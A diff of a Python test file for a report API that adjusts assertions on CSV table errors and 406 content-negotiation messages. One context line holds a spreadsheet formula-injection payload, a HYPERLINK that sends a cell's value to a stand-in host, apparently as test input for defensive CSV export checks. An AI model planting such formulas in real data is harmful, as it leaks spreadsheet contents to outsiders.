@@ -120,6 +120,7 @@ def test_report_csv_tables_parse(closed_session, player_client):
     assert transfers[1][:3] == ["ann", "bob", "29.50"]
     bad = player_client.get(base, {"format": "csv", "table": "nope"})
     assert bad.status_code == 400 and bad["Content-Type"] == "application/problem+json"
+    assert bad.json()["errors"] == [{"field": "table", "message": 'Unknown table "nope".'}]
 
 
 @pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A2,"Ann")',
@@ -672,19 +673,19 @@ def test_an_unknown_format_is_406_like_an_unknown_accept(closed_session, viewer_
     assert by_query.status_code == by_header.status_code == 406
     body = by_query.json()
     assert body["code"] == "not-acceptable" and by_query["Content-Type"] == "application/problem+json"
-    assert "'xml'" in body["detail"] and "csv" in body["detail"] and "pdf" in body["detail"]
+    assert '"xml"' in body["detail"] and "csv" in body["detail"] and "pdf" in body["detail"]
 
 
 def test_an_unmatched_accept_header_names_the_media_types_offered(closed_session, viewer_client):
     # DRF's own 406 said only "Could not satisfy the request Accept header."
     by_header = problem(viewer_client.get(url(closed_session, "report"),
                                                HTTP_ACCEPT="application/xml"), 406)
-    assert "'application/xml'" in by_header["detail"]
+    assert '"application/xml"' in by_header["detail"]
     assert all(kind in by_header["detail"] for kind in ("application/json", "text/csv", "application/pdf"))
     # ?format= and Accept that disagree: what the format leaves on offer is named
     both = problem(viewer_client.get(url(closed_session, "report"), {"format": "json"},
                                           HTTP_ACCEPT="text/csv"), 406)
-    assert "'text/csv'" in both["detail"] and "application/json" in both["detail"]
+    assert '"text/csv"' in both["detail"] and "application/json" in both["detail"]
     assert "application/pdf" not in both["detail"]
 
 
